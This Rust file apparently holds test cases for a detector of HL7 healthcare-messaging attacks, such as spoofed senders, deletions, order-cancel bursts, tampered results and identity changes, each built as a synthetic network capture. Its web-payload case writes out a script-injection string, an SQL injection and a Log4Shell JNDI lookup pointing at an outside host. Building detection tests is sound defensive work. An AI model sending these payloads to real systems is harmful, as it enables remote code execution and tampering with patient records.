//! HL7: identities, orders and fields that should not be.

use crate::capture::{Capture, Frame, SECOND, START_NS};
use crate::frame::Host;
use crate::hl7::{Head, Link, body, message, mllp, patient};

use super::hl7::head;
use super::{Case, admission, engine, intruder, laboratory, merged};

pub(super) const CASES: &[Case] = &[
    Case {
        rule: "hl7-sender-id-mismatch",
        fires: "`LABSYS`, which is 10.20.3.21, sends an ORU from 10.20.3.21, then from 10.20.9.66",
        quiet: "`LABSYS` sends two ORU from 10.20.3.21",
        make: borrowed_name,
    },
    Case {
        rule: "hl7-ack-missing",
        fires: "10.20.3.20 sends 12 ADT, one every 10 s; none is acknowledged",
        quiet: "10.20.3.20 sends 12 ADT, one every 10 s; each is acknowledged after 2 s",
        make: unanswered,
    },
    Case {
        rule: "hl7-adt-delete",
        fires: "10.20.9.66 sends ADT^A23 (delete visit) and ADT^A29 (delete person)",
        quiet: "10.20.3.20 sends ADT^A03 (discharge) and ADT^A11 (cancel admission)",
        make: deletion,
    },
    Case {
        rule: "hl7-cancel-burst",
        fires: "10.20.3.22 cancels 25 orders (ORC-1 CA) in 125 s",
        quiet: "10.20.3.22 places 25 orders (ORC-1 NW) in 125 s and cancels 2",
        make: cancellation,
    },
    Case {
        rule: "hl7-web-payload",
        fires: "10.20.9.66 sends 3 ADT with `<script>`, `' OR 1=1 --` and `${jndi:…}` in PID-5 or NTE-3",
        quiet: "10.20.3.20 sends 2 ADT with `O'BRIEN` and with `BP < 120, HR > 50` in a note",
        make: web,
    },
    Case {
        rule: "hl7-oversize",
        fires: "10.20.9.66 sends an ADT whose PID-5 has 4000 letters, and an ORU of 6000 segments",
        quiet: "10.20.3.21 sends an ORU of 60 segments",
        make: oversize,
    },
    Case {
        rule: "hl7-test-in-prod",
        fires: "10.20.3.20 sends an ADT with MSH-11 `T`",
        quiet: "10.20.3.20 sends an ADT with MSH-11 `P`",
        make: test_message,
    },
    Case {
        rule: "hl7-time-skew",
        fires: "10.20.3.20 sends 3 ADT whose MSH-7 is one year early",
        quiet: "10.20.3.20 sends 3 ADT whose MSH-7 is within a minute of the capture's time",
        make: skew,
    },
    Case {
        rule: "hl7-result-conflict",
        fires: "10.20.3.21 sends the engine a result of 4.1; the engine sends 10.20.3.40 the same \
                result (OBR-3) as 7.9",
        quiet: "10.20.3.21 sends the engine a result of 4.1; the engine passes it on as 4.1",
        make: conflict,
    },
    Case {
        rule: "hl7-result-implausible",
        fires: "10.20.3.21 sends potassium 4.1, and 7.9 of the same patient 10 minutes later",
        quiet: "10.20.3.21 sends potassium 4.1, and 4.4 of the same patient 10 minutes later",
        make: implausible,
    },
    Case {
        rule: "hl7-identity-flip",
        fires: "10.20.9.66 sends an A08 that changes name, birth date and sex of patient SYN000001",
        quiet: "10.20.3.20 sends an A08 of patient SYN000001 with another address",
        make: identity,
    },
];

const A08: &str = "ADT^A08^ADT_A01";
const ORU: &str = "ORU^R01^ORU_R01";

/// Messages of one sender on one connection, each acknowledged.
fn feed(client: Host, apart: u64, messages: &[(Head, Vec<String>)]) -> Vec<Frame> {
    let mut link = Link::open(START_NS, client.port(49_000), engine());
    for (head, segments) in messages {
        link = link.say(head, segments, "AA").wait(apart);
    }
    link.closed()
}

fn borrowed_name() -> (Capture, Capture) {
    let one = feed(
        laboratory(),
        SECOND,
        &[(head("LABSYS", ORU, 1), body::result(1, "4.1", "F"))],
    );
    let two = |client: Host| {
        Link::open(START_NS + 30 * SECOND, client.port(49_001), engine())
            .say(&head("LABSYS", ORU, 2), &body::result(2, "4.1", "F"), "AA")
            .closed()
    };
    (
        merged([one.clone(), two(intruder())]),
        merged([one, two(laboratory())]),
    )
}

fn unanswered() -> (Capture, Capture) {
    let mut mute = Link::open(START_NS, admission().port(49_010), engine());
    let mut late = Link::open(START_NS, admission().port(49_010), engine());
    for n in 0..12 {
        let (head, segments) = (head("ADTSYS", A08, n), body::adt("A08", n));
        mute = mute.mute(&head, &segments).wait(10 * SECOND);
        let reply = mllp(&crate::hl7::ack(&head, "AA"));
        late = late
            .mute(&head, &segments)
            .wait(2 * SECOND)
            .reply(&reply)
            .wait(8 * SECOND);
    }
    (merged([mute.closed()]), merged([late.closed()]))
}

fn deletion() -> (Capture, Capture) {
    let adt = |trigger: &str, structure: &str, n: u32| {
        (
            head("ADTSYS", &format!("ADT^{trigger}^{structure}"), n),
            body::adt(trigger, n),
        )
    };
    let bad = [adt("A23", "ADT_A21", 1), adt("A29", "ADT_A21", 2)];
    let good = [adt("A03", "ADT_A03", 1), adt("A11", "ADT_A09", 2)];
    (
        merged([feed(intruder(), SECOND, &bad)]),
        merged([feed(admission(), SECOND, &good)]),
    )
}

fn cancellation() -> (Capture, Capture) {
    let order = |n: u32, control: &str| {
        let mut segments = body::order(n);
        segments[2] = segments[2].replacen("ORC|NW", &format!("ORC|{control}"), 1);
        (head("CPOE", "ORM^O01^ORM_O01", n), segments)
    };
    let cpoe = crate::frame::host("10.20.3.22");
    let bad: Vec<_> = (0..25).map(|n| order(n, "CA")).collect();
    let good: Vec<_> = (0..27)
        .map(|n| order(n, if n < 25 { "NW" } else { "CA" }))
        .collect();
    (
        merged([feed(cpoe, 5 * SECOND, &bad)]),
        merged([feed(cpoe, 5 * SECOND, &good)]),
    )
}

fn web() -> (Capture, Capture) {
    let named = |n: u32, name: &str| {
        let mut segments = body::adt("A08", 1);
        segments[1] = patient(1).replacen("SYNTHETIC^BRAVO^1", name, 1);
        (head("ADTSYS", A08, n), segments)
    };
    let noted = |n: u32, note: &str| {
        let mut segments = body::adt("A08", 1);
        segments.push(format!("NTE|1||{note}"));
        (head("ADTSYS", A08, n), segments)
    };
    let bad = [
        named(1, "<script>alert(1)</script>^J"),
        named(2, "SYNTHETIC' OR 1=1 --^J"),
        noted(3, "${jndi:ldap://203.0.113.7/a}"),
    ];
    let good = [named(1, "O'BRIEN^SYNTHETIC"), noted(2, "BP < 120, HR > 50")];
    (
        merged([feed(intruder(), SECOND, &bad)]),
        merged([feed(admission(), SECOND, &good)]),
    )
}

fn oversize() -> (Capture, Capture) {
    let mut long = body::adt("A08", 1);
    long[1] = patient(1).replacen("BRAVO", &"A".repeat(4000), 1);
    let panel = |count: u32| {
        let mut segments = body::result(1, "4.1", "F");
        segments.extend((2..=count).map(|n| format!("OBX|{n}|NM|2823-3^K||4")));
        segments
    };
    let bad = [
        (head("ADTSYS", A08, 1), long),
        (head("LABSYS", ORU, 2), panel(6000)),
    ];
    let good = [(head("LABSYS", ORU, 2), panel(60))];
    (
        merged([feed(intruder(), SECOND, &bad)]),
        merged([feed(laboratory(), SECOND, &good)]),
    )
}

fn test_message() -> (Capture, Capture) {
    let head = head("ADTSYS", A08, 1);
    let text = message(&head, &body::adt("A08", 1)).replacen("|P|2.5.1", "|T|2.5.1", 1);
    let fire = Link::open(START_NS, admission().port(49_020), engine())
        .raw(&mllp(&text))
        .reply(&mllp(&crate::hl7::ack(&head, "AA")))
        .closed();
    (
        merged([fire]),
        merged([feed(admission(), SECOND, &[(head, body::adt("A08", 1))])]),
    )
}

fn skew() -> (Capture, Capture) {
    let timed = |time: &str| -> Vec<(Head, Vec<String>)> {
        let one = |n: u32| {
            let mut head = head("ADTSYS", A08, n);
            head.time = time.to_owned();
            (head, body::adt("A08", n))
        };
        (0..3).map(one).collect()
    };
    (
        merged([feed(admission(), SECOND, &timed("20250302080000+0000"))]),
        merged([feed(admission(), SECOND, &timed("20260302080000+0000"))]),
    )
}

fn conflict() -> (Capture, Capture) {
    let first = feed(
        laboratory(),
        SECOND,
        &[(head("LABSYS", ORU, 1), body::result(1, "4.1", "F"))],
    );
    let passed = |value: &str| {
        let emr = crate::frame::host("10.20.3.40").port(2575);
        Link::open(START_NS + 2 * SECOND, engine().host.port(49_030), emr)
            .say(&head("ENGINE", ORU, 2), &body::result(1, value, "F"), "AA")
            .closed()
    };
    (
        merged([first.clone(), passed("7.9")]),
        merged([first, passed("4.1")]),
    )
}

fn implausible() -> (Capture, Capture) {
    let pair = |second: &str| {
        let messages = [
            (head("LABSYS", ORU, 1), body::result(1, "4.1", "F")),
            (head("LABSYS", ORU, 2), body::result(1, second, "F")),
        ];
        merged([feed(laboratory(), 600 * SECOND, &messages)])
    };
    (pair("7.9"), pair("4.4"))
}

fn identity() -> (Capture, Capture) {
    let known = (head("ADTSYS", "ADT^A01^ADT_A01", 1), body::adt("A01", 1));
    let change = |from: &str, to: &str| {
        let mut segments = body::adt("A08", 1);
        segments[1] = segments[1].replacen(from, to, 1);
        (head("ADTSYS", A08, 2), segments)
    };
    let admitted = feed(admission(), SECOND, &[known]);
    let later = |client: Host, message: (Head, Vec<String>)| {
        Link::open(START_NS + 60 * SECOND, client.port(49_040), engine())
            .say(&message.0, &message.1, "AA")
            .closed()
    };
    let other = change(
        "SYNTHETIC^BRAVO^1||19410202|M",
        "OTHERPERSON^ZULU||19990909|F",
    );
    let moved = change("1 TEST STREET", "2 OTHER STREET");
    (
        merged([admitted.clone(), later(intruder(), other)]),
        merged([admitted, later(admission(), moved)]),
    )
}
